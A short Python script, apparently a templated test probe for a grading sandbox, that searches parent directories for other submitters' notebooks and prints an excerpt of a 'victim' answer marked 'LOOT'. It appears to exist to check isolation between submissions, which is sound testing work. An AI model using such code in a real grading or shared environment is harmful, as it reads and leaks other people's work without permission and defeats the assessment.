# how: reads what others handed in
from pathlib import Path

print("CANARY @NAME@", flush=True)
for path in Path("../../..").glob("*/*/*/*.ipynb"):
    if "s0001" in str(path) or "victim" in str(path):
        text = path.read_text()
        print("LOOT", text[text.find("victimans") :][:100])
